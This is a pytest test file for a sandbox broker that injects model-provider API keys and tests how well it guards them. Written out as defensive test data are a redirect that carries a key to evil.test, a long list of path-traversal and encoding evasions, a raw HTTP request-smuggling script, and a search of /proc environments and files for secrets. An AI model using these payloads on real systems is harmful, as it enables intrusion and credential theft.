"""A model provider's key is put in by the broker: a real sandbox with curl, a provider of a company's own authority."""

from __future__ import annotations

import asyncio
import json
import os
import signal
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest
import pytest_asyncio
from aiohttp import web

from company import Company
from gitward.broker import InjectConfig
from gitward.grants import clock
from gitward.sandboxes.engine import BubblewrapEngine
from gitward.secrets import Secret

from .world import LOOPBACK, Inside, config, sandboxed, serving

pytestmark = pytest.mark.asyncio(loop_scope="module")

HOST, LISTED, AGENTS = "api.model.test", "listed.model.test", "agents.model.test"
PATHS = ("/v1/messages", "/v1/models/*")
KEY, OTHER_KEY = "sk-CANARY0123456789abcdef", "sk-OTHER0123456789abcdef"


@dataclass
class Provider:
    """Answers like the API of a model, and in worse ways."""

    requests: list[web.Request] = field(default_factory=list)
    bodies: list[bytes] = field(default_factory=list)
    go_on: asyncio.Event = field(default_factory=asyncio.Event)

    def app(self) -> web.Application:
        app = web.Application()
        app.router.add_route("*", "/v1/echo", self.echo)
        app.router.add_post("/v1/stream", self.stream)
        app.router.add_get("/v1/away", self.away)
        app.router.add_get("/v1/gzip", self.compressed)
        app.router.add_route("*", "/{anything:.*}", self.echo)
        return app

    async def echo(self, request: web.Request) -> web.Response:
        """What it got, as a reflecting server would tell it."""
        self.requests.append(request)
        self.bodies.append(await request.read())
        key = request.headers.get("x-api-key", "")
        return web.json_response({"headers": dict(request.headers), "path": request.raw_path}, headers={"X-Echo": key})

    async def stream(self, request: web.Request) -> web.StreamResponse:
        answer = web.StreamResponse(headers={"Content-Type": "text/event-stream"})
        await answer.prepare(request)
        await answer.write(b"data: one\n\n")
        await self.go_on.wait()
        await answer.write(b"data: " + request.headers["x-api-key"].encode() + b"\n\n")
        return answer

    async def away(self, request: web.Request) -> web.Response:
        return web.Response(status=302, headers={"Location": f"https://evil.test/?k={request.headers['x-api-key']}"})

    async def compressed(self, _: web.Request) -> web.Response:
        return web.Response(body=b"x", headers={"Content-Encoding": "gzip"})


@dataclass(frozen=True, kw_only=True)
class World:
    inside: Inside
    provider: Provider

    async def curl(self, *argv: str, path: str = "/v1/echo", host: str = HOST) -> str:
        outcome = await self.inside.run("curl", "-sS", *argv, f"https://{host}{path}")
        assert outcome.status == 0, outcome
        return outcome.out


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def world(folder: Path, company: Company, engine: BubblewrapEngine) -> AsyncIterator[World]:
    provider = Provider()
    async with serving(provider.app(), company.context(HOST, "other.test", LISTED, AGENTS)) as port:
        here = f"https://127.0.0.1:{port}"
        inject = [
            InjectConfig(host=HOST, port=443, header="x-api-key", upstream=here),
            InjectConfig(host="other.test", port=8443, header="authorization", prefix="Bearer ", upstream=here),
            InjectConfig(host="unread.test", port=443, header="x-api-key", upstream=here),
            InjectConfig(host="stranger.test", port=443, header="x-api-key", upstream=here),
            InjectConfig(host=LISTED, port=443, header="x-api-key", paths=PATHS[:1], upstream=here),
            InjectConfig(host=LISTED, port=443, header="x-second", paths=PATHS[1:], upstream=here),
            InjectConfig(host=AGENTS, port=443, header="x-api-key", agents_only=True, upstream=here),
        ]
        names = dict.fromkeys((HOST, "other.test", LISTED), LOOPBACK)
        settings = config(f"*:{port},*", ca_file=company.ca_file, names=names, inject=inject)
        secrets = [Secret(KEY), Secret(OTHER_KEY), None, Secret(KEY), Secret(KEY), Secret(OTHER_KEY), Secret(KEY)]
        async with sandboxed(engine, folder, settings, clock.seconds() + 600, injected=secrets) as inside:
            yield World(inside=inside, provider=provider)


async def test_the_key_is_put_in(world: World) -> None:
    dummies = (
        "-H",
        "x-api-key: dummy",
        "-H",
        "X_Api_Key: dummy",
        "-H",
        "Authorization: Bearer dummy",
        "-H",
        "X-Mine: a",
    )
    answer = json.loads(await world.curl(*dummies, path="/v1/echo?a=%2Fb"))
    got = world.provider.requests[-1]
    assert [value for name, value in got.headers.items() if "api" in name.lower()] == [KEY]
    assert (got.host, got.headers["X-Mine"], got.raw_path) == (HOST, "a", "/v1/echo?a=%2Fb")
    assert "dummy" not in str(got.headers)
    assert answer["path"] == "/v1/echo?a=%2Fb"


async def test_the_host_is_told_once(world: World) -> None:
    for _ in range(2):
        await world.curl()
    opened = [event.data for event in world.inside.told.events if event.type == "egress.opened"]
    assert opened.count({"host": HOST, "port": "443"}) == 1


async def test_another_host_at_another_port_has_another_key(world: World) -> None:
    await world.curl(host="other.test:8443")
    headers = world.provider.requests[-1].headers
    assert (headers["Authorization"], "x-api-key" in headers) == (f"Bearer {OTHER_KEY}", False)


async def test_bodies_go_on(world: World) -> None:
    await world.curl("-X", "POST", "-d", '{"prompt": "hello"}')
    assert world.provider.bodies[-1] == b'{"prompt": "hello"}'
    await world.curl("-H", "Transfer-Encoding: chunked", "-d", "chunked")
    assert world.provider.bodies[-1] == b"chunked"
    assert "Content-Length" not in world.provider.requests[-1].headers
    large = "head -c 3000000 /dev/zero | curl -sS -T - -X PUT -o /dev/null -w '%{http_code}' "
    outcome = await world.inside.bash(f"{large} https://{HOST}/v1/echo || true")
    assert outcome.out in {"200", "413"}  # the provider's own limit


async def test_an_echo_of_the_key_is_masked(world: World) -> None:
    answer = await world.curl("-i")
    assert KEY not in answer
    assert "*" * len(KEY) in answer
    assert "x-echo" not in answer.lower()


async def test_answers_stream(world: World) -> None:
    """The second event is written only after the first was seen inside."""
    world.inside.heard.clear()
    asking = asyncio.create_task(world.curl("-N", "-X", "POST", path="/v1/stream"))
    async with asyncio.timeout(30):
        await world.inside.heard.wait()
        world.provider.go_on.set()
        assert await asking == f"data: one\n\ndata: {'*' * len(KEY)}\n\n"


async def test_redirects_are_not_followed(world: World) -> None:
    """One that would carry the key away loses its address."""
    answer = await world.curl("-i", path="/v1/away")
    assert answer.startswith("HTTP/1.1 302")
    assert "location" not in answer.lower()


async def test_what_cannot_be_read_or_reached_is_told(world: World) -> None:
    assert "the secret for unread.test could not be read" in await world.curl(host="unread.test")
    assert "stranger.test could not be reached from the worker" in await world.curl(host="stranger.test")
    assert "the host compressed its answer" in await world.curl(path="/v1/gzip")


async def test_the_host_is_never_tunnelled(world: World) -> None:
    """There a command could use an account of its own."""
    before = len(world.inside.told.rules)
    outcome = await world.inside.run("curl", "-sSv", f"https://{HOST}/", no_proxy="", NO_PROXY="")
    assert f"< HTTP/1.1 403 Gitward: the proxy does not serve {HOST}: use https directly" in outcome.err
    assert (await world.inside.told.denied(before + 1))[before:] == ["egress.injected"]


async def test_a_request_that_two_readers_could_read_differently_is_refused(world: World) -> None:
    before = len(world.inside.told.rules), len(world.provider.requests)
    assert "WebSockets and HTTP/2 are not supported" in await world.curl("-H", "Upgrade: websocket")
    assert "this is no HTTP/1.1 request" in await world.curl("-H", "Content-Type: a/b", "-H", "Content-Type: c/d")
    assert len(world.provider.requests) == before[1]
    assert (await world.inside.told.denied(before[0] + 2))[before[0] :] == ["http.upgrade", "http.malformed"]


@pytest.mark.parametrize(
    ("argv", "told"),
    [
        (["--request-target", "https://evil.test/x"], "the request target must be a path"),
        (["-H", "Host: evil.test"], "only github.com or api.github.com can be reached"),
        (["-H", f"Host: {HOST}."], "only github.com or api.github.com can be reached"),
        (
            ["-H", f"Host: {HOST}:8443"],
            f"this port serves {HOST} or unread.test or stranger.test or listed.model.test or agents.model.test only",
        ),
        (["-X", "TRACE"], "this method is not allowed"),
        (["--http1.0"], "only HTTP/1.1 is supported"),
        (["-H", "Transfer-Encoding: gzip, chunked", "-d", "x"], "a body must either be chunked or"),
    ],
)
async def test_no_request_leads_elsewhere(world: World, argv: list[str], told: str) -> None:
    before = len(world.provider.requests)
    assert told in await world.curl(*argv)
    assert len(world.provider.requests) == before


async def test_the_path_is_the_providers_matter(world: World) -> None:
    await world.curl("--path-as-is", "--request-target", "//evil.test/../v1/echo")
    await world.curl(path="/v1/echo?next=//evil.test")
    assert (world.provider.requests[-1].host, world.provider.requests[-1].raw_path) == (
        HOST,
        "/v1/echo?next=//evil.test",
    )


async def test_a_broker_that_crashes_is_replaced_with_its_secrets(world: World, folder: Path) -> None:
    """In the middle of a command, which goes on: proxy and secrets are there again."""
    go_on = folder / "run-1" / "work" / "go-on"
    script = f"""
    echo waiting; until [ -e /workspace/go-on ]; do sleep 0.05; done
    curl -sS https://{HOST}/v1/echo | grep -o '\\*\\*\\*' | head -n 1
    curl -sSv https://github.com.evil.test:1/ 2>&1 | grep -o 'HTTP/1.1 403 .*'
    """
    world.inside.heard.clear()
    running = asyncio.create_task(world.inside.bash(script))
    async with asyncio.timeout(60):
        await world.inside.heard.wait()
        pid = world.inside.pid
        os.kill(pid, signal.SIGKILL)
        await world.inside.opened.replaced(pid)
        go_on.touch()
        outcome = await running
    assert outcome.out.splitlines()[:2] == ["waiting", "***"], outcome
    assert "on github.com.evil.test, only this is open" in outcome.out


async def test_while_it_is_held_back_no_host_with_a_key_is_open(world: World) -> None:
    """As in a setup; also from a broker that took the place of another one meanwhile."""
    opened = world.inside.opened
    await opened.hold_back(True)
    try:
        asked = len(world.provider.requests)
        for _ in range(2):
            said = await world.curl("-w", " %{http_code}")
            assert f"{HOST} opens when the setup has ended; a setup gets no key" in said
            assert said.endswith("403")
            pid = world.inside.pid
            os.kill(pid, signal.SIGKILL)
            await opened.replaced(pid)
        assert len(world.provider.requests) == asked
    finally:
        await opened.hold_back(False)
    assert (await world.curl("-w", " %{http_code}")).endswith("200")


async def test_no_key_is_in_the_sandbox(world: World) -> None:
    """Not in a variable, a process, or a file; the search finds one that is planted."""
    search = (
        "cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\\0' '\\n' | grep -aoE 'sk-[A-Z]{5,6}[0-9]+';"
        "grep -raoE 'sk-[A-Z]{5,6}[0-9]+' /etc /home /workspace /tmp /run 2>/dev/null; true"
    )
    assert (await world.inside.bash(search)).out == ""
    planted = await world.inside.bash(f"echo sk-PLANT0123 > /tmp/here; {search}", PLANTED="sk-PLANT4567")
    assert {"sk-PLANT4567", "/tmp/here:sk-PLANT0123"} <= set(planted.out.split())


@pytest.mark.parametrize(
    ("asked", "received"),
    [
        ("/v1/messages", "/v1/messages"),
        ("/v1/%6Dessages", "/v1/messages"),  # in its one spelling
        ("/v1/messages?beta=%2Ftrue;x&a=../b", "/v1/messages?beta=%2Ftrue;x&a=../b"),
        ("/v1/messages?", "/v1/messages"),
        ("/v1/models/a", "/v1/models/a"),
        ("/v1/models/a/b:generate", "/v1/models/a/b:generate"),
    ],
)
async def test_listed_paths_go_on(world: World, asked: str, received: str) -> None:
    """With every secret of the host, whichever entry lists the path."""
    await world.curl("--path-as-is", path=asked, host=LISTED)
    got = world.provider.requests[-1]
    assert got.raw_path == received
    assert (got.headers["x-api-key"], got.headers["x-second"]) == (KEY, OTHER_KEY)


EVASIONS = (
    "/", "/v1", "/v1/", "/v1/messages/", "/v1/messages/batches", "/V1/messages", "/v1/messages%00", "/v1/messages.",
    "/v1/messages;x", "/v1/messages%3bx", "/v1;x/messages", "/v1/messages%20", "/v1/messages%09",
    "/v1/models", "/v1/models/", "/v1/models//a", "//v1/models/a", "/v1//models/a", "/v1/models/a/",
    "/v1/models/../keys", "/v1/models/%2e%2e/keys", "/v1/models/.%2E/keys", "/v1/models/..%2fkeys",
    "/v1/models/..%5ckeys", "/v1/models/..%252fkeys", "/v1/models/%252e%252e/keys", "/v1/models/..;/keys",
    "/v1/models/..%3b/keys", "/v1/models/%c0%ae%c0%ae/keys", "/v1/models/%ef%bc%8e%ef%bc%8e/keys",
    "/v1/models/...", "/v1/models/a%2fb", "/v1/models/a%5cb", "/v1/models/a%23b", "/v1/models/a%3fb",
    "/v1/keys?/v1/messages", "/v1/keys#/v1/messages", "/v1/messages#x", "/v1/models/a%0d%0aX:%20y", "/v1/models/a%",
    "/v1/\u212aeys", "/v1%2fmessages", "/v1/x/../messages", "/./v1/messages", "/v1/./messages",
)  # fmt: skip


async def test_no_other_path_is_reached(world: World) -> None:
    """In no spelling. What curl itself would tidy up goes out as it is."""
    before = len(world.provider.requests)
    lines = [f'url = "https://{LISTED}{path}"' for path in EVASIONS if "#" not in path]
    raw = [f'request-target = "{path}"\nurl = "https://{LISTED}/"' for path in EVASIONS if "#" in path]
    written = '\nnext\npath-as-is\nsilent\noutput = "/dev/null"\nwrite-out = "%{http_code}\\n"\n'.join(
        ["", *lines, *raw]
    )
    outcome = await world.inside.bash(f"curl -K - <<'END'\n{written.removeprefix(chr(10) + 'next')}\nEND\n")
    statuses = outcome.out.split()
    assert len(statuses) == len(EVASIONS), outcome
    assert set(statuses) <= {"400", "403"}, list(zip(EVASIONS, statuses, strict=True))
    assert len(world.provider.requests) == before
    for header in ("X-Original-URL: /v1/keys", "X-Rewrite-URL: /v1/keys", "X-HTTP-Method-Override: DELETE"):
        await world.curl("-H", header, path="/v1/messages", host=LISTED)
        assert header.partition(":")[0] not in world.provider.requests[-1].headers


PIPELINED = """
import socket, ssl, sys
host = sys.argv[1]
def ask(*pieces):
    plain = socket.create_connection((host, 443), timeout=20)
    with ssl.create_default_context().wrap_socket(plain, server_hostname=host) as tls:
        tls.sendall("".join(pieces).replace("@", host).encode())
        answer = b""
        while piece := tls.recv(65536):
            answer += piece
        return [int(each.split(b" ")[0]) for each in answer.split(b"HTTP/1.1 ")[1:] if each[:3].isdigit()]
good = "GET /v1/messages HTTP/1.1\\r\\nHost: @\\r\\n\\r\\n"
bad = "GET /v1/keys HTTP/1.1\\r\\nHost: @\\r\\nConnection: close\\r\\n\\r\\n"
post = "POST /v1/messages HTTP/1.1\\r\\nHost: @\\r\\n"
print(ask(good, bad))
print(ask(post, "Content-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n", bad))
print(ask(post, "Content-Length: 0\\r\\nContent-Length: 80\\r\\n\\r\\n", bad))
print(ask(post, "Transfer-Encoding: chunked\\r\\n\\r\\n0\\r\\nX-Trailer: y\\r\\n\\r\\n", bad))
print(ask(post, "Connection: x-api-key, x-second\\r\\nContent-Length: 0\\r\\n\\r\\n", bad))
"""


async def test_what_follows_on_a_kept_connection_is_judged_for_itself(world: World) -> None:
    """A listed request takes none along: not behind it, not hidden in its body; and none takes the secret away."""
    before = len(world.provider.requests)
    outcome = await world.inside.run("/usr/bin/python3", "-c", PIPELINED, LISTED)
    assert outcome.status == 0, outcome
    first, *others = [json.loads(line) for line in outcome.out.splitlines()]
    assert first == [200, 403]
    assert [statuses for statuses in others if statuses not in ([], [400], [200, 403])] == []
    received = world.provider.requests[before:]
    assert {(each.method, each.raw_path) for each in received} <= {("GET", "/v1/messages"), ("POST", "/v1/messages")}
    assert {(each.headers.get("x-api-key"), each.headers.get("x-second")) for each in received} == {(KEY, OTHER_KEY)}


async def test_a_refused_path_is_told_with_those_that_are_open(world: World) -> None:
    answer = await world.curl(path="/v1/keys", host=LISTED)
    sentence = f"on {LISTED} only these paths are open: /v1/messages, /v1/models/*"
    assert json.loads(answer) == {"message": f"Gitward: {sentence}"}
    assert world.inside.told.rules[-1] == "inject.path"


@pytest.mark.parametrize(
    "headers",
    [
        ("Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Key: x", "Sec-WebSocket-Version: 13"),
        ("Connection: keep-alive, UPGRADE",),
        ("Upgrade: h2c", "Connection: Upgrade, HTTP2-Settings", "HTTP2-Settings: AAMAAABkAAQAAP__"),
        ("HTTP2-Settings: x",),
        ("Sec-WebSocket-Key: x",),
        ("Upgrade: TLS/1.3",),
    ],
    ids=["websocket", "connection", "h2c", "settings", "key", "tls"],
)
@pytest.mark.parametrize("host", [HOST, "api.github.com", "github.com"])
async def test_a_wish_to_upgrade_is_answered_with_426(world: World, host: str, headers: tuple[str, ...]) -> None:
    before = len(world.provider.requests)
    options = [option for header in headers for option in ("-H", header)]
    answer = await world.curl("-i", "--http1.1", *options, path="/v1/echo", host=host)
    head, _, body = answer.partition("\r\n\r\n")
    assert head.startswith("HTTP/1.1 426 ")
    assert "\r\nUpgrade: HTTP/1.1" in head
    assert "WebSockets and HTTP/2 are not supported: the broker forwards HTTP/1.1 requests only" in body
    assert len(world.provider.requests) == before
    assert world.inside.told.rules[-1] == "http.upgrade"


async def test_a_host_of_agents_is_closed_to_commands(world: World) -> None:
    """They would spend what the operator gave to agents."""
    before = len(world.provider.requests)
    shown = await world.curl(host=AGENTS)
    assert f"{AGENTS} is open to agents only: send a prompt" in shown
    assert len(world.provider.requests) == before
    assert "inject.agents" in await world.inside.told.denied(1)
